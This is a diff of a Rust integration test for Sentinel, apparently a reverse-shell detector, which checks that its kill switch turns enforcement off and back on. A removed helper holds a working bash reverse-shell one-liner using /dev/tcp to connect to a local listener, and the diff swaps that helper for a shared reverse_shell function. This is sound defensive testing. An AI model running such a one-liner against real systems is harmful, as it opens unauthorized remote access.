@@ -1,10 +1,10 @@
 //! `sentinel enforce` while Sentinel runs. One test, since there is one socket to ask at.
 
-use std::process::{Child, Command, Output, Stdio};
+use std::process::{Command, Output};
 
 use sentinel_tests::{
     bed::Bed,
-    peer::Peer,
+    peer::{Peer, reverse_shell},
     rig::{ends_by_signal, lives_on},
     sentinel::{Sentinel, program},
 };
@@ -24,13 +24,6 @@ fn errors(output: &Output) -> String {
     String::from_utf8_lossy(&output.stderr).into_owned()
 }
 
-/// A reverse shell that has been told nothing yet.
-fn shell(bed: &Bed, peer: &Peer) -> Child {
-    let code = format!("exec bash >& /dev/tcp/127.0.0.1/{} 0>&1", peer.address().port());
-    let mut command = bed.command("bash");
-    command.args(["-c", &code]).stdin(Stdio::null()).stderr(Stdio::null()).spawn().unwrap()
-}
-
 #[test]
 fn it_switches_kills_off_and_on_again() {
     let Some(bed) = Bed::new() else { return };
@@ -42,13 +35,13 @@ fn it_switches_kills_off_and_on_again() {
     let status = done("status");
     assert!(status.contains("Enforcement is on") && status.contains("Kills: 0"), "{status}");
     let peer = Peer::listen("127.0.0.1");
-    let mut first = shell(&bed, &peer);
+    let mut first = reverse_shell(&bed, &peer);
     assert_eq!(ends_by_signal(&mut first), Some(9));
     let _killed = peer.accept();
 
     let off = done("off");
     assert!(off.contains("switched off"), "{off}");
-    let mut second = shell(&bed, &peer);
+    let mut second = reverse_shell(&bed, &peer);
     let mut answering = peer.shell();
     assert_eq!(answering.pid(), second.id());
     sentinel.wait_for("kill_refused:kill_switch");
@@ -65,7 +58,7 @@ fn it_switches_kills_off_and_on_again() {
 
     let on = done("on");
     assert!(on.contains("Enforcement is on"), "{on}");
-    let mut third = shell(&bed, &peer);
+    let mut third = reverse_shell(&bed, &peer);
     assert_eq!(ends_by_signal(&mut third), Some(9));
     assert!(done("status").contains("Kills: 2"));
 
